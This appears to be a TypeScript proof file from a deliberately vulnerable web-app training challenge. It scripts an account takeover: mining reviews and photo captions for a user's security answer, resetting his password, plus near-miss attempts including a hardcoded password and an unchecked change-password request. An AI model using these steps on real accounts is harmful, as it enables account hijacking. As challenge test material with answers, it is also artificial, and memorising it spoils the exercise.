import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { resetPassword, spellingsOfReset } from '../../weaknesses/answer-opens-account/reset-password.ts'
import { challenge } from './challenge.ts'

const ANSWER = "Stop'n'Drop"

const reset = (attacker: Attacker, answer: string, more?: object) =>
  resetPassword(attacker, `bender@${attacker.domain}`, answer, more)

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    // A review names his first job, and its author's e-mail.
    const reviews: { author: string; message: string }[] = (await attacker.get('/rest/products/46/reviews')).json().data
    const ofWages = reviews.find(({ message }) => /first wages/.test(message))
    await attacker.get(`/rest/user/security-question?email=${ofWages?.author}`)
    const job = /slots of a (\w+)/.exec(ofWages?.message ?? '')?.[1] ?? ''
    // The caption of his photo names the company.
    const photos: { caption: string; imagePath: string }[] = (await attacker.get('/rest/memories')).json().data
    const ofThePlace = photos.find(({ imagePath }) => imagePath.includes(job))
    const name = /sign of the (\S+)/.exec(ofThePlace?.caption ?? '')?.[1] ?? ''
    await resetPassword(attacker, ofWages?.author ?? '', name)
  },
  spellings: spellingsOfReset('bender', ANSWER),
  nearMisses: {
    'the name with printed apostrophes': (attacker) => reset(attacker, 'Stop’n’Drop'),
    'the name without apostrophes': (attacker) => reset(attacker, 'StopnDrop'),
    'the name in small letters': (attacker) => reset(attacker, "stop'n'drop"),
    'the name with its article': (attacker) => reset(attacker, "the Stop'n'Drop"),
    'the trade instead of the name': (attacker) => reset(attacker, 'Launderette'),
    'the name with a new password that is not repeated': (attacker) =>
      reset(attacker, ANSWER, { repeat: 'another one' }),
    'the name with an empty password': (attacker) => reset(attacker, ANSWER, { new: '', repeat: '' }),
    'the name for somebody else who was asked the same': (attacker) =>
      resetPassword(attacker, `emma@${attacker.domain}`, ANSWER),
    'the name as an answer of one’s own account': async (attacker) => {
      const { email } = await attacker.becomeCustomer()
      const { user } = (await attacker.get('/rest/user/whoami')).json()
      await attacker.post('/api/SecurityAnswers', { UserId: user.id, SecurityQuestionId: 10, answer: ANSWER })
      await resetPassword(attacker, email, ANSWER)
    },
    'another password by his old one, which takes no answer': async (attacker) => {
      const login = { email: `bender@${attacker.domain}`, password: 'OhG0dPlease1nsertLiquor!' }
      await attacker.post('/rest/user/login', login)
      await attacker.get(`/rest/user/change-password?current=${login.password}&new=a+ripe+one&repeat=a+ripe+one`)
    },
  },
})
